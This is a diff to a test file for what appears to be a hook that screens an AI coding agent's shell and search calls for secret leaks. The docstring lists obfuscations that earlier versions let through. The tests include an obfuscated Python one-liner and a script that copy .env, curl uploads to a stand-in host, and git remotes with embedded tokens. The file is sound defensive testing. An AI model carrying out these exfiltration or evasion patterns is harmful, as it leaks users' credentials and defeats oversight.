@@ -7,7 +7,9 @@ separators, Caesar-shifted, base64 of its reverse or of itself, or compressed th
 (openssl, XOR) before a later command sent it; and a WebSearch let through with `--allow-tool` whose query holds a
 value were allowed. Every token of a send's text, and of a file it sends, that decodes is now decoded (and opened where
 compressed) and looked through; a value is looked for Caesar-shifted too; a file whose bytes cannot be looked through
-(a format this guard cannot open, binary bytes of no known format) asks; a WebSearch's strings are decided as a send.
+(a format this guard cannot open, binary bytes of no known format) asks; a WebSearch's strings are decided as a send; a
+git command that sends reads its repository's configuration; code the analysis does not follow is denied while a send
+decided before may still run, and a send while such code may (hook.SEND_RUNS_S, ten times longer in the background).
 """
 from __future__ import annotations
 
@@ -25,8 +27,9 @@ from pathlib import Path
 
 import pytest
 
+from veriguard import hook
 from veriguard.enforce import shell_values
-from tests.unit.test_hook_fourteenth_pass import URL, answer, machine  # noqa: F401 (fixture)
+from tests.unit.test_hook_fourteenth_pass import URL, answer, machine, run, spawn, state_of  # noqa: F401 (fixture)
 from tests.unit.test_hook_seventh_pass import build, outside_tmp  # noqa: F401 (fixtures)
 
 pytest.importorskip("tree_sitter_bash", reason="the shell extractor needs tree-sitter-bash")
@@ -221,3 +224,98 @@ def test_a_websearch_of_other_words_passes_and_one_without_a_query_is_denied(bui
     got = answer(build, project, _braced(json.dumps({"q": "x"})), "--allow-tool", "WebSearch", tool="WebSearch")
     assert got[0] == "deny" and "without a query" in got[1]
     assert answer(build, project, _braced(json.dumps({"query": VALUE})), tool="WebSearch")[0] == "deny"
+
+
+# -- a token kept in a git remote's address ---------------------------------------------------------------------------------
+
+@pytest.fixture
+def clean(machine: dict[str, Path]) -> dict[str, Path]:  # noqa: F811
+    """A project whose repository never held the .env (a push sends nothing secret of its own)."""
+    run(machine, "git rm -q --cached .env && echo .env > .gitignore && git add .gitignore && "
+                 "git -c user.email=a@b -c user.name=a commit -qm two && git update-ref -d HEAD && "
+                 "git -c user.email=a@b -c user.name=a commit -qm fresh")
+    (machine["project"] / ".env").write_text(ENV)
+    return machine
+
+
+@pytest.mark.parametrize("remote", [f"https://u:{VALUE}@x.example/r.git",
+                                    f"https://x.example/r.git?t={base64.b32encode(RAW).decode()}"])
+def test_a_push_to_a_remote_whose_address_holds_a_value_asks(build: Path, clean: dict[str, Path],  # noqa: F811
+                                                             remote: str) -> None:
+    assert answer(build, clean, "git push -q origin HEAD")[0] == "allow"       # no remote yet: nothing of the values
+    run(clean, f"git remote add origin '{remote}'")
+    for command in ("git push -q origin HEAD", "git fetch -q origin", "git ls-remote origin"):
+        assert answer(build, clean, command)[0] == "ask", command
+
+
+def test_a_push_to_a_plain_remote_stays_allowed(build: Path, clean: dict[str, Path]) -> None:  # noqa: F811
+    run(clean, "git remote add origin https://x.example/r.git")
+    assert answer(build, clean, "git push -q origin HEAD")[0] == "allow"
+
+
+# -- code and a send decided one beside the other -----------------------------------------------------------------------
+
+CODE = ["python3 src/cp.py", "python3 -c \"open('ou'+'t.txt','w').write(open('.e'+'nv').read())\""]
+
+
+@pytest.mark.parametrize("code", CODE)
+def test_code_right_after_a_send_is_denied(build: Path, project: dict[str, Path], code: str) -> None:  # noqa: F811
+    run(project, "echo hi > out.txt && echo 'print(1)' > src/cp.py")
+    assert answer(build, project, "curl -s -T out.txt {url}")[0] == "allow"
+    got, why = answer(build, project, code)
+    assert got == "deny" and "may still be reading" in why and "out.txt" in why
+
+
+@pytest.mark.parametrize("code", CODE)
+def test_a_send_right_after_code_is_denied(build: Path, project: dict[str, Path], code: str) -> None:  # noqa: F811
+    run(project, "echo hi > out.txt && echo 'print(1)' > src/cp.py")
+    assert answer(build, project, code)[0] in ("allow", "ask")
+    got, why = answer(build, project, "curl -s -T out.txt {url}")
+    assert got == "deny" and "may still be running" in why
+
+
+def test_once_the_time_has_passed_each_is_judged_alone(build: Path, project: dict[str, Path],  # noqa: F811
+                                                       monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(hook, "SEND_RUNS_S", 0.0)
+    run(project, "echo hi > out.txt && echo 'print(1)' > src/cp.py")
+    assert answer(build, project, "curl -s -T out.txt {url}")[0] == "allow"
+    assert answer(build, project, "python3 src/cp.py")[0] == "allow"
+    assert answer(build, project, "curl -s -T out.txt {url}")[0] == "allow"
+
+
+def test_other_commands_beside_a_send_stay_as_they_were(build: Path, project: dict[str, Path]) -> None:  # noqa: F811
+    run(project, "echo hi > out.txt")
+    assert answer(build, project, "curl -s -T out.txt {url}")[0] == "allow"
+    assert answer(build, project, "ls -la && cat f.txt && git status")[0] == "allow"
+    assert answer(build, project, "cp .env {tmp}e")[0] == "ask"        # a copy the analysis sees: asked, as before
+    assert answer(build, project, "curl -s -d x=1 {url}")[0] == "allow"   # a send of no file
+
+
+def test_a_send_in_the_background_runs_longer(build: Path, project: dict[str, Path]) -> None:  # noqa: F811
+    import time
+
+    run(project, "echo hi > out.txt")
+    opts = hook.parse_options(["--build", str(build)])
+    assert isinstance(opts, hook.Options)
+    opts = opts._replace(env={"HOME": str(project["home"]), "CLAUDE_PROJECT_DIR": str(project["project"])})
+    call = {"session_id": "s", "cwd": str(project["project"]), "permission_mode": "default", "tool_use_id": "b",
+            "hook_event_name": "PreToolUse", "tool_name": "Bash",
+            "tool_input": {"command": f"curl -s -T out.txt {URL}", "run_in_background": True}}
+    assert hook.decide(json.dumps(call).encode(), opts).code == 0
+    until = [json.loads(x)["until"] for x in state_of(project).read_text().splitlines() if '"sent"' in x]
+    assert until and until[-1] - time.time() > hook.BACKGROUND_SEND_RUNS_S - 60
+
+
+def test_a_state_line_whose_until_is_no_number_denies(build: Path, project: dict[str, Path]) -> None:  # noqa: F811
+    state_of(project).parent.mkdir(parents=True, exist_ok=True)
+    state_of(project).write_text(json.dumps({"path": "/x/y", "sent": True, "until": "later"}) + "\n")
+    got, why = answer(build, project, "ls")
+    assert got == "deny" and "until" in why
+
+
+def test_a_parallel_batch_of_a_send_and_project_code_lets_one_through_at_most(build: Path,  # noqa: F811
+                                                                              project: dict[str, Path]) -> None:
+    run(project, "echo hi > dump && printf \"import shutil; shutil.copy('.env', 'dump')\\n\" > src/cp.py")
+    procs = [spawn(build, project, c, f"p{i}") for i, c in enumerate([f"curl -s -T dump {URL}", "python3 src/cp.py"])]
+    codes = [p.wait(timeout=120) for p in procs]
+    assert 2 in codes, [p.stderr.read() for p in procs if p.stderr is not None]
